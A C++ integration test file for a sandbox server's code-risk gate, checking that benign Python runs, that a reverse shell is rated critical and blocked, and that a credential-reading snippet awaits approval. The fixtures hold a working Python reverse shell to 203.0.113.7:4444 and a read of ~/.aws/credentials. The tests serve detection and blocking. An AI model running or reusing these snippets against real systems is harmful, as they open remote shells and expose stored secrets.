// CARS in front of the sandbox, through the real server: the Assess RPC and
// the gate in Execute with the default policy (HIGH → approval, CRITICAL →
// block).
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>

#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "grpcpp/grpcpp.h"
#include "gtest/gtest.h"
#include "tests/integration/server_process.h"

namespace forge::testing {
namespace {

using ::testing::ContainsRegex;
using ::testing::HasSubstr;

class CarsGateTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::geteuid() != 0) return;
    // The default policy of DESIGN §5, spelled out so the harness does not
    // relax it.
    auto server = ServerProcess::Start(
        "cars { low_action: POLICY_ACTION_AUTO_APPROVE medium_action: "
        "POLICY_ACTION_APPROVE_WITH_LOG "
        "high_action: POLICY_ACTION_REQUIRE_APPROVAL critical_action: "
        "POLICY_ACTION_BLOCK }\n");
    ASSERT_TRUE(server.ok()) << server.status();
    server_ = server->release();
  }
  static void TearDownTestSuite() {
    delete server_;
    server_ = nullptr;
  }
  void SetUp() override {
    if (::geteuid() != 0)
      GTEST_SKIP() << "needs root to create sandboxes with mapped ids";
    stub_ = server_->NewStub();
  }

  static ServerProcess* server_;
  std::unique_ptr<forge::exec::v1::ExecutionService::Stub> stub_;
};
ServerProcess* CarsGateTest::server_ = nullptr;

constexpr char kReverseShell[] =
    "import socket, subprocess, os\n"
    "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
    "s.connect(('203.0.113.7', 4444))\n"
    "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)\n"
    "subprocess.call(['/bin/sh', '-i'])\n";

TEST_F(CarsGateTest, AssessReadsCodeNotText) {
  grpc::ClientContext benign_context;
  forge::exec::v1::AssessRequest benign;
  benign.set_runtime("python");
  benign.set_code(
      "# fetch the rows and eval the model\nimport http\nrows = [1, 2]\n"
      "print(http.HTTPStatus.OK, sum(rows))\n");
  forge::exec::v1::RiskAssessment low;
  ASSERT_TRUE(stub_->Assess(&benign_context, benign, &low).ok());
  EXPECT_EQ(low.level(), forge::exec::v1::RISK_LEVEL_LOW);
  EXPECT_FALSE(low.policy_version().empty());

  grpc::ClientContext hostile_context;
  forge::exec::v1::AssessRequest hostile;
  hostile.set_runtime("python");
  hostile.set_code(kReverseShell);
  forge::exec::v1::RiskAssessment critical;
  ASSERT_TRUE(stub_->Assess(&hostile_context, hostile, &critical).ok());
  EXPECT_EQ(critical.level(), forge::exec::v1::RISK_LEVEL_CRITICAL);
  ASSERT_GT(critical.findings_size(), 0);
  EXPECT_GT(critical.findings(0).line(), 0u);
}

TEST_F(CarsGateTest, CliAssessPrintsLevelFindingsAndExcerpts) {
  char dir[] = "/tmp/forge-assess-XXXXXX";
  ASSERT_NE(::mkdtemp(dir), nullptr);
  const std::string path = absl::StrCat(dir, "/shell.py");
  std::ofstream(path) << kReverseShell;
  const std::string command =
      absl::StrCat(BuildDir(), "/client/forge-exec --server ",
                   server_->address(), " assess ", path, " 2>&1");
  FILE* pipe = ::popen(command.c_str(), "r");
  ASSERT_NE(pipe, nullptr);
  std::string out;
  char buffer[4096];
  size_t n;
  while ((n = std::fread(buffer, 1, sizeof(buffer), pipe)) > 0)
    out.append(buffer, n);
  const int status = ::pclose(pipe);
  std::system(absl::StrCat("rm -rf ", dir).c_str());
  ASSERT_TRUE(WIFEXITED(status)) << out;
  EXPECT_EQ(WEXITSTATUS(status), 0) << out;
  // The level, then each finding as line:col, score, type and rule, with
  // the source line it points at.
  EXPECT_THAT(out, HasSubstr("Risk: CRITICAL")) << out;
  EXPECT_THAT(out, ContainsRegex("[0-9]+:[0-9]+ +\\[0\\.[0-9]+\\]")) << out;
  EXPECT_THAT(out, HasSubstr("| s.connect(('203.0.113.7', 4444))")) << out;
}

TEST_F(CarsGateTest, AssessRejectsBadRequestsByField) {
  grpc::ClientContext context;
  forge::exec::v1::AssessRequest request;
  request.set_runtime("fortran");
  request.set_code("x");
  forge::exec::v1::RiskAssessment response;
  grpc::Status status = stub_->Assess(&context, request, &response);
  EXPECT_EQ(status.error_code(), grpc::StatusCode::INVALID_ARGUMENT);
  EXPECT_THAT(status.error_message(), ::testing::StartsWith("runtime:"));
}

TEST_F(CarsGateTest, CriticalCodeIsBlockedAndNeverRuns) {
  const std::string marker = "/workspace/ran-marker";
  CollectedEvents run = Execute(
      *stub_, Request("python", std::string("open('ran','w').write('x')\n") +
                                    kReverseShell));
  ASSERT_TRUE(run.status.ok()) << run.status.error_message();
  for (const auto& event : run.events) EXPECT_FALSE(event.has_started());
  EXPECT_TRUE(run.events.back().has_finished());
  EXPECT_EQ(run.events[0].accepted().action(),
            forge::exec::v1::POLICY_ACTION_BLOCK);
  EXPECT_EQ(run.events[0].accepted().assessment().level(),
            forge::exec::v1::RISK_LEVEL_CRITICAL);
  EXPECT_EQ(run.finished.outcome(), forge::exec::v1::OUTCOME_BLOCKED);
  EXPECT_THAT(run.finished.message(), HasSubstr("CRITICAL"));
}

TEST_F(CarsGateTest, HighRiskWaitsForApproval) {
  CollectedEvents run = Execute(
      *stub_,
      Request("python",
              "import os, urllib.request\n"
              "key = open(os.path.expanduser('~/.aws/credentials')).read()\n"
              "print(len(key))\n"));
  ASSERT_TRUE(run.status.ok());
  ASSERT_TRUE(run.has_finished);
  const auto action = run.events[0].accepted().action();
  if (action == forge::exec::v1::POLICY_ACTION_REQUIRE_APPROVAL) {
    EXPECT_EQ(run.finished.outcome(),
              forge::exec::v1::OUTCOME_APPROVAL_PENDING);
  } else {
    EXPECT_EQ(action, forge::exec::v1::POLICY_ACTION_BLOCK);
  }
}

TEST_F(CarsGateTest, BenignCodeRunsWithItsAssessment) {
  CollectedEvents run =
      Execute(*stub_, Request("python", "print(sum(range(10)))"));
  EXPECT_EQ(run.stdout_data, "45\n");
  EXPECT_EQ(run.events[0].accepted().action(),
            forge::exec::v1::POLICY_ACTION_AUTO_APPROVE);
  EXPECT_EQ(run.events[0].accepted().assessment().level(),
            forge::exec::v1::RISK_LEVEL_LOW);
}

}  // namespace
}  // namespace forge::testing
